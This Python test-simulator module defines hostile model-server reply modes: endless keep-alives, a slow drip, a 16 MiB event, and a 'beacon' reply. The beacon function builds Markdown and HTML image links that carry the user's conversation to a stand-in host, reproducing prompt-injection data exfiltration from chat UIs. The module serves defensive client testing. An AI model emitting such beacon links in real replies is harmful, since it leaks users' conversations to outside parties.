"""Hostile inference replies: what a broken or malicious model server sends, as fault modes.

Switch one on with ``simulator.set_faults(hostile_reply=<mode>)`` (and its pace with
``hostile_interval_ms``, 1000 by default); ``faults.reset()`` switches it off. Each mode
answers ``POST /v1/chat/completions`` with a 200, streamed or not:

- ``keep-alive-only``: the stream sends only ``: keep-alive`` comments, one per interval, for
  ever; a whole reply sends a space per interval, for ever (OpenRouter pads JSON this way).
- ``slow-drip``: the stream never ends: one token per interval, each well inside any idle
  limit, so only a total deadline stops it; a whole reply drips its body a byte per interval.
- ``beacon``: the reply holds remote images whose URLs carry the conversation, and raw HTML
  that would load another: the prompt-injection exfiltration reported against chat UIs.
- ``oversized-event``: one server-sent event of 16 MiB, sent in 4 KiB writes; a whole reply
  holds the same 16 MiB of text.
"""

from __future__ import annotations

import itertools
import json
from collections.abc import Callable, Iterator, Sequence
from urllib.parse import quote

from .messages import JsonObject

KEEP_ALIVE_ONLY = "keep-alive-only"
SLOW_DRIP = "slow-drip"
BEACON = "beacon"
OVERSIZED_EVENT = "oversized-event"
HOSTILE_REPLIES = (KEEP_ALIVE_ONLY, SLOW_DRIP, BEACON, OVERSIZED_EVENT)

# `.invalid` never resolves (RFC 2606): a browser that tries to fetch it reaches nobody, and a
# test intercepting requests sees the attempt.
BEACON_HOST = "beacon.invalid"
KEEP_ALIVE = b": keep-alive\n\n"
PADDING = b" "
OVERSIZED_EVENT_BYTES = 16 * 1024 * 1024
WRITE_BYTES = 4096

Sleep = Callable[[float], None]
ChunkMaker = Callable[[JsonObject], bytes]
"""Turns a ``delta`` into one whole ``data:`` event of a completion chunk."""


def check_mode(mode: str) -> None:
    if mode not in HOSTILE_REPLIES:
        raise ValueError(f"hostile_reply must be one of {', '.join(HOSTILE_REPLIES)}: {mode!r}")


def beacon_text(messages: Sequence[JsonObject]) -> str:
    """A reply that, rendered as Markdown or HTML, fetches URLs holding the conversation."""
    said = " ".join(str(m.get("content", "")) for m in messages if m.get("role") == "user")
    leak = quote(said, safe="")
    return (
        "Here is a chart of your costs:\n\n"
        f"![chart](http://{BEACON_HOST}/inline.png?q={leak})\n\n"
        f"and the logo ![logo][beacon]\n\n"
        f'<img src="http://{BEACON_HOST}/html.png?q={leak}"> <b>done</b>\n\n'
        f"[beacon]: http://{BEACON_HOST}/reference.png?q={leak}\n"
    )


def hostile_events(
    mode: str, chunk: ChunkMaker, pieces: Sequence[str], interval_s: float, sleep: Sleep
) -> Iterator[bytes]:
    """The SSE body of a streamed hostile reply (``beacon`` streams as a normal reply does)."""
    if mode == KEEP_ALIVE_ONLY:
        while True:
            yield KEEP_ALIVE
            sleep(interval_s)
    yield chunk({"role": "assistant", "content": ""})
    if mode == SLOW_DRIP:
        for piece in itertools.cycle(pieces or [" more"]):
            sleep(interval_s)
            yield chunk({"content": piece})
    if mode == OVERSIZED_EVENT:
        yield from _in_writes(chunk({"content": "x" * OVERSIZED_EVENT_BYTES}))
        yield b"data: [DONE]\n\n"


def hostile_body(
    mode: str, completion: JsonObject, interval_s: float, sleep: Sleep
) -> Iterator[bytes]:
    """The body of a whole (non-streamed) hostile reply."""
    if mode == KEEP_ALIVE_ONLY:
        while True:
            yield PADDING
            sleep(interval_s)
    if mode == OVERSIZED_EVENT:
        completion["choices"][0]["message"]["content"] = "x" * OVERSIZED_EVENT_BYTES
    body = json.dumps(completion, separators=(",", ":")).encode()
    if mode != SLOW_DRIP:
        yield from _in_writes(body)
        return
    for index in range(len(body)):
        yield body[index : index + 1]
        sleep(interval_s)


def _in_writes(payload: bytes) -> Iterator[bytes]:
    for start in range(0, len(payload), WRITE_BYTES):
        yield payload[start : start + WRITE_BYTES]
